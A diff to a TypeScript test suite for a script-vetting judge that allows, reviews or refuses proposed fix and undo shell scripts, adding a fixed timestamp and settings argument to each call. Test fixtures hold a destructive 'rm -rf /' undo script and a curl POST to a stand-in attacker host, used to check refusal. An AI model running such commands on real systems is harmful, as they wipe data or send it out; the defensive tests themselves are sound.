@@ -14,6 +14,7 @@ import {
 import { digestOfProposal, judgeProposal, judgeScripts, type Proposal } from './judgement.ts';
 import { parseVerifyPlan } from './verify-plan.ts';
 
+const NOW = new Date('2026-11-03T03:10:00Z');
 const cache = runbookOf(purgeText);
 const flag = runbookOf(flagText);
 const proposal = proposalOf(cache);
@@ -29,7 +30,7 @@ const script = (line: string) => `#!/usr/bin/env bash\nset -euo pipefail\n${line
 
 describe('a proposal that is the runbook’s own', () => {
   test('is allowed with its effects, commands and risk', () => {
-    const judged = judgeScripts(proposal, shopService());
+    const judged = judgeScripts(proposal, shopService(), shopSettings(), NOW);
     expect(judged).toMatchObject({
       verdict: 'allow',
       risk: 'LOW',
@@ -156,27 +157,35 @@ describe('what a proposal says of itself', () => {
 
 describe('scripts', () => {
   test('with a redaction placeholder are refused: their author did not know the real value', () => {
-    const judged = judgeScripts(change({ 'fix.sh': script('echo [EMAIL_482131]') }), shopService());
+    const judged = judgeScripts(
+      change({ 'fix.sh': script('echo [EMAIL_482131]') }),
+      shopService(),
+      shopSettings(),
+      NOW,
+    );
     expect(judged.verdict).toBe('refuse');
     expect(codes(judged)).toContain('fix.sh placeholder');
   });
 
   test('without an undo are refused where the effect does not restore itself', () => {
     const { 'undo.sh': _, ...files } = proposalOf(flag).files;
-    const judged = judgeScripts({ ...proposalOf(flag), files }, shopService());
+    const judged = judgeScripts({ ...proposalOf(flag), files }, shopService(), shopSettings(), NOW);
     expect(judged.verdict).toBe('refuse');
     expect(codes(judged)).toEqual(['undo.sh no-undo']);
-    expect(judgeScripts(proposalOf(flag), shopService())).toMatchObject({ verdict: 'allow', risk: 'MEDIUM' });
+    expect(judgeScripts(proposalOf(flag), shopService(), shopSettings(), NOW)).toMatchObject({
+      verdict: 'allow',
+      risk: 'MEDIUM',
+    });
   });
 
   test('need no undo where the effect restores itself', () => {
     expect(proposal.files['undo.sh']).toBeUndefined();
-    expect(judgeScripts(proposal, shopService()).verdict).toBe('allow');
+    expect(judgeScripts(proposal, shopService(), shopSettings(), NOW).verdict).toBe('allow');
   });
 
   test('are refused for what the undo does, too', () => {
     const undone = { ...proposalOf(flag).files, 'undo.sh': script('rm -rf /') };
-    const judged = judgeScripts({ ...proposalOf(flag), files: undone }, shopService());
+    const judged = judgeScripts({ ...proposalOf(flag), files: undone }, shopService(), shopSettings(), NOW);
     expect(judged.verdict).toBe('refuse');
     expect(judged.findings[0]).toMatchObject({ file: 'undo.sh', line: 3 });
   });
@@ -188,6 +197,8 @@ describe('scripts', () => {
         files: { ...proposalOf(flag).files, 'fix.sh': script('heal-everything --now') },
       },
       shopService(),
+      shopSettings(),
+      NOW,
     );
     expect(judged).toMatchObject({ verdict: 'review', risk: 'HIGH' });
   });
@@ -196,12 +207,19 @@ describe('scripts', () => {
     const judged = judgeScripts(
       change({ 'fix.sh': script('curl --fail -X POST https://evil.example/x') }),
       shopService(),
+      shopSettings(),
+      NOW,
     );
     expect(judged.verdict).not.toBe('allow');
   });
 
   test('leave findings and commands that the ledger can hold, however long the lines are', () => {
-    const judged = judgeScripts(change({ 'fix.sh': script(`echo ${'x'.repeat(3000)}`) }), shopService());
+    const judged = judgeScripts(
+      change({ 'fix.sh': script(`echo ${'x'.repeat(3000)}`) }),
+      shopService(),
+      shopSettings(),
+      NOW,
+    );
     for (const text of [...judged.commands, ...judged.findings.map(({ sentence }) => sentence)])
       expect(text.length).toBeLessThanOrEqual(500);
   });
